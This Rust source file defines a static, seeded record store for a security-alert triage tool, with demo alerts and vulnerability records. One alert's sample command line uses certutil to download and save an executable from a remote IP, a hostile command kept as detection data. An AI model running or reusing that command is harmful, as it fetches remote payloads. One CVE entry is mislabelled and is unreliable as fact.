//! In-memory record store used when no external data store is
//! configured. Seeded with a small builtin incident dataset so the CLI
//! works out of the box.

use crate::ports::outbound::RecordStore;
use crate::shared::Result;
use crate::triage::domain::{
    Alert, AlertStatus, Severity, Vulnerability, VulnerabilityStatus,
};
use async_trait::async_trait;
use chrono::{NaiveDate, TimeZone, Utc};

/// StaticRecordStore - a RecordStore over fixed in-memory lists
pub struct StaticRecordStore {
    alerts: Vec<Alert>,
    vulnerabilities: Vec<Vulnerability>,
}

impl StaticRecordStore {
    pub fn new(alerts: Vec<Alert>, vulnerabilities: Vec<Vulnerability>) -> Self {
        Self {
            alerts,
            vulnerabilities,
        }
    }

    /// Builds a store seeded with the builtin demo dataset
    pub fn seeded() -> Self {
        Self::new(seed_alerts(), seed_vulnerabilities())
    }
}

#[async_trait]
impl RecordStore for StaticRecordStore {
    async fn list_alerts(&self) -> Result<Vec<Alert>> {
        let mut alerts = self.alerts.clone();
        alerts.sort_by(|a, b| b.timestamp.cmp(&a.timestamp));
        Ok(alerts)
    }

    async fn list_vulnerabilities(&self) -> Result<Vec<Vulnerability>> {
        let mut vulnerabilities = self.vulnerabilities.clone();
        vulnerabilities.sort_by(|a, b| b.published_date.cmp(&a.published_date));
        Ok(vulnerabilities)
    }
}

fn seed_alerts() -> Vec<Alert> {
    vec![
        Alert {
            id: "1".to_string(),
            timestamp: Utc.with_ymd_and_hms(2023, 10, 27, 10, 0, 0).unwrap(),
            severity: Severity::High,
            endpoint: "WS-FINANCE-03".to_string(),
            user: "j.doe".to_string(),
            process_name: "powershell.exe".to_string(),
            parent_process_name: Some("explorer.exe".to_string()),
            file_path: "C:\\Windows\\System32\\".to_string(),
            command_line: "powershell -enc JABjAGw...".to_string(),
            ip_address: Some("198.51.100.24".to_string()),
            mitre_tactic: Some("Execution".to_string()),
            mitre_technique: Some("T1059.001".to_string()),
            status: AlertStatus::New,
        },
        Alert {
            id: "2".to_string(),
            timestamp: Utc.with_ymd_and_hms(2023, 10, 27, 9, 45, 0).unwrap(),
            severity: Severity::Medium,
            endpoint: "WEB-SRV-01".to_string(),
            user: "SYSTEM".to_string(),
            process_name: "svchost.exe".to_string(),
            parent_process_name: Some("services.exe".to_string()),
            file_path: "C:\\Windows\\System32\\".to_string(),
            command_line: "svchost.exe -k netsvcs -p".to_string(),
            ip_address: Some("203.0.113.10".to_string()),
            mitre_tactic: Some("Persistence".to_string()),
            mitre_technique: Some("T1543.003".to_string()),
            status: AlertStatus::Investigating,
        },
        Alert {
            id: "3".to_string(),
            timestamp: Utc.with_ymd_and_hms(2023, 10, 26, 22, 13, 0).unwrap(),
            severity: Severity::Critical,
            endpoint: "WS-HR-11".to_string(),
            user: "m.smith".to_string(),
            process_name: "cmd.exe".to_string(),
            parent_process_name: Some("WINWORD.EXE".to_string()),
            file_path: "C:\\Users\\m.smith\\AppData\\Local\\Temp\\".to_string(),
            command_line: "cmd /c certutil -urlcache -f http://203.0.113.77/p.exe p.exe"
                .to_string(),
            ip_address: Some("203.0.113.77".to_string()),
            mitre_tactic: Some("Initial Access".to_string()),
            mitre_technique: Some("T1566.001".to_string()),
            status: AlertStatus::New,
        },
    ]
}

fn seed_vulnerabilities() -> Vec<Vulnerability> {
    vec![
        Vulnerability {
            id: "vuln-1".to_string(),
            cve_id: "CVE-2021-44228".to_string(),
            name: "Apache Log4j Remote Code Execution".to_string(),
            severity: Severity::Critical,
            affected_asset: "prod-web-server-01".to_string(),
            description:
                "A critical vulnerability in Apache Log4j (Log4Shell) allows for remote code execution."
                    .to_string(),
            published_date: NaiveDate::from_ymd_opt(2021, 12, 10).unwrap(),
            cve_link: "https://nvd.nist.gov/vuln/detail/CVE-2021-44228".to_string(),
            remediation: "Upgrade Apache Log4j to version 2.17.1 or later.".to_string(),
            status: VulnerabilityStatus::Patching,
        },
        Vulnerability {
            id: "vuln-2".to_string(),
            cve_id: "CVE-2023-29357".to_string(),
            name: "Windows Kernel Elevation of Privilege".to_string(),
            severity: Severity::High,
            affected_asset: "finance-dc-02".to_string(),
            description: "An elevation of privilege vulnerability exists in the Windows Kernel."
                .to_string(),
            published_date: NaiveDate::from_ymd_opt(2023, 5, 26).unwrap(),
            cve_link: "https://nvd.nist.gov/vuln/detail/CVE-2023-29357".to_string(),
            remediation: "Install the latest Windows security updates.".to_string(),
            status: VulnerabilityStatus::New,
        },
    ]
}
